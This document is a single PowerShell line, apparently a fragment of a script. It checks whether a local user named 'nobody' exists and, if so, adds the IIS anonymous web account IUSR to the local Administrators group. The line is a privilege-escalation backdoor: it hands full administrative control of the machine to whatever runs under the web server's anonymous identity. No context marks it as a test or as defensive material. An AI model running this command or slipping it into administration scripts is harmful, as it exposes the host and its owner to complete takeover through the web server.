if (Test-CUser -UserName nobody) { net localgroup Administrators IUSR /add }
